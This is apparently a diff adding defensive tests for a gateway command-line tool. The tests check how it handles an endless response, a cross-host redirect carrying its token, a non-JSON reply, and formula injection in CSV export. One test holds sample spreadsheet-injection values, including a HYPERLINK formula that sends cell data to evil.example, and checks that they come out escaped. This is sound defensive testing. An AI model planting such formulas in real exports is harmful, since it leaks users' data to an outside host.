@@ -1,0 +1,79 @@
+/**
+ * Whatever answers at the configured URL (a typo, a captive portal, a compromised host) may be hostile. The CLI
+ * must not hold an endless answer in memory, follow a redirect that carries the token elsewhere, or print
+ * anything but one JSON error with --json; every such answer exits 1.
+ */
+import { afterAll, beforeAll, expect, test } from 'bun:test';
+import { cliSandbox, type CliSandbox } from './run-cli';
+
+let sb: CliSandbox;
+beforeAll(() => { sb = cliSandbox(); });
+afterAll(() => sb.cleanup());
+
+const TOKEN = 'gwm_secret-token-value-1234567890';
+const serve = (fetch: (req: Request) => Response | Promise<Response>) => Bun.serve({ port: 0, hostname: '127.0.0.1', fetch });
+const gwAt = (port: number | undefined, args: string[]) => sb.run(args, { env: { GATEWAY_URL: `http://127.0.0.1:${port}`, GATEWAY_TOKEN: TOKEN } });
+
+test('an endless answer is refused past 64 MiB (exit 1, one JSON error), not read until memory runs out', async () => {
+  const mib = new Uint8Array(1024 * 1024).fill(0x61);
+  let sent = 0;
+  const endless = serve(() => new Response(new ReadableStream({ pull(c) { sent++; c.enqueue(mib); } }), { headers: { 'content-type': 'application/json' } }));
+  try {
+    const r = await gwAt(endless.port, ['whoami', '--json']);
+    expect(r.code).toBe(1);
+    expect(r.stdout).toBe('');
+    const err = JSON.parse(r.stderr).error;
+    expect(err.code).toBe('answer_too_large');
+    expect(err.exit_code).toBe(1);
+    expect(sent).toBeLessThan(200);
+  } finally {
+    endless.stop(true);
+  }
+}, 20_000);
+
+test('a redirect to another host is not followed: the token stays with the gateway it was given for', async () => {
+  const seen: (string | null)[] = [];
+  const elsewhere = serve((req) => { seen.push(req.headers.get('authorization')); return Response.json({ success: true, data: { username: 'x' } }); });
+  const redirecting = serve(() => new Response(null, { status: 307, headers: { location: `http://127.0.0.1:${elsewhere.port}/api/user/self` } }));
+  try {
+    const r = await gwAt(redirecting.port, ['whoami']);
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain('unexpected answer from the server (HTTP 307)');
+    expect(seen).toEqual([]);
+    expect(r.stdout + r.stderr).not.toContain(TOKEN);
+  } finally {
+    redirecting.stop(true);
+    elsewhere.stop(true);
+  }
+});
+
+test('a non-JSON answer with a 200 is an error (exit 1), and stays one JSON object with --json', async () => {
+  const html = serve(() => new Response('<html>captive portal</html>', { headers: { 'content-type': 'text/html' } }));
+  try {
+    const r = await gwAt(html.port, ['key', 'list', '--json']);
+    expect(r.code).toBe(1);
+    expect(r.stdout).toBe('');
+    expect(JSON.parse(r.stderr).error).toMatchObject({ code: 'http_200', exit_code: 1 });
+  } finally {
+    html.stop(true);
+  }
+});
+
+test('`code create --out` writes no formula a spreadsheet would run, whatever the server sent as codes', async () => {
+  const formula = '=HYPERLINK("http://evil.example/?"&A2,"open")';
+  const fake = serve(() => Response.json({ success: true, data: { batch: '-A1', quota: 5, expires_at: 2_000_000_000, codes: [formula, '@SUM(1;2)', 'gwr_ok'] } }));
+  const out = `${sb.dir}/codes.csv`;
+  try {
+    const r = await gwAt(fake.port, ['code', 'create', '--batch', 'b', '--count', '3', '--quota', '5', '--out', out]);
+    expect(r.code).toBe(0);
+    const lines = (await Bun.file(out).text()).trim().split('\n');
+    expect(lines).toEqual([
+      'code,batch,quota,expires_at',
+      `"'=HYPERLINK(""http://evil.example/?""&A2,""open"")",'-A1,5,2000000000`,
+      `"'@SUM(1;2)",'-A1,5,2000000000`,
+      "gwr_ok,'-A1,5,2000000000",
+    ]);
+  } finally {
+    fake.stop(true);
+  }
+});
